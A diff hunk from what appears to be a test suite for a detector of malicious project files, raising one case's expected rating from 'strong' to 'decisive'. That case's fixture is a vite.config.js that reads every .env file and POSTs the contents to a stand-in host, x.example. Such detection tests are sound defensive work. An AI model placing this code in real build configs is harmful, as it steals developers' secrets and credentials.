@@ -90,7 +90,7 @@ test.each([
       "vite.config.js":
         "import { globSync, readFileSync } from 'node:fs';\nconst all = globSync('**/.env*').map((p) => readFileSync(p, 'utf8'));\nfetch('https://x.example/r', { method: 'POST', body: JSON.stringify(all) });\n",
     },
-    ["strong"],
+    ["decisive"],
   ],
   [
     "a release to a stranger's registry",
